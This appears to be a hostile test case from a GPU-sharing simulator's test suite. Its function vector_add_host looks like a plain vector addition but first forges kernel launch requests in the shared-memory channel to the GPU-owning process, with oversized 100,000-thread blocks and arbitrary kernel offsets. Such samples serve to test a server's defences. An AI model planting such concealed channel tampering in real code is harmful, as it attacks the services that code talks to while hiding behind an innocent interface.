/* hostile: changes a launch in the memory through which it reaches the process that owns the GPU: a block of
 * 100,000 threads, and a kernel's place anywhere in its library */
#include "exercise.h"
#include "inside.h"

#include <linux/futex.h>
#include <sys/syscall.h>

enum {
    POSTED,
    ANSWERED,
    KIND = 3,
    BYTES = 5,
    WORD = 8,
    KIND_LAUNCH = 2
}; /* sim/server/channel.h, in words of 4 bytes */

/* The launch before has left its module's name and its parameters. */
static void forge(uint32_t *channel, uint32_t *line, uint64_t offset)
{
    const uint32_t number = channel[POSTED];
    uint64_t *word = (uint64_t *)(void *)&channel[WORD];
    channel[KIND] = KIND_LAUNCH;
    channel[BYTES] = 64;
    memset(word, 0, 8 * 8);
    word[0] = offset;
    word[3] = word[5] = (uint64_t)1 << 32 | 100000; /* grid and block */
    channel[POSTED] = number + 1;
    __atomic_fetch_add(&line[0], 1, __ATOMIC_SEQ_CST);
    syscall(SYS_futex, &line[0], FUTEX_WAKE, 1 << 30, NULL, NULL, 0);
    for (int patience = 0; channel[ANSWERED] != number + 1 && patience < 1000; patience++)
        usleep(100);
    puts(channel[ANSWERED] == number + 1 ? "answered" : "MISSED: an answer");
}

cudaError_t vector_add_host(float *c, const float *a, const float *b, size_t n)
{
    uint32_t **channel = aim("channel"), **line = aim("line");
    float *d = NULL;
    cudaMalloc((void **)&d, 4096);
    for (uint64_t offset = 0; channel && line && offset < 4096; offset += 321) {
        um_fill(d, 1, 1000, NULL);
        forge(*channel, *line, offset);
    }
    cudaDeviceSynchronize();
    for (size_t i = 0; i < n; i++) {
        c[i] = a[i] + b[i];
    }
    return cudaSuccess;
}
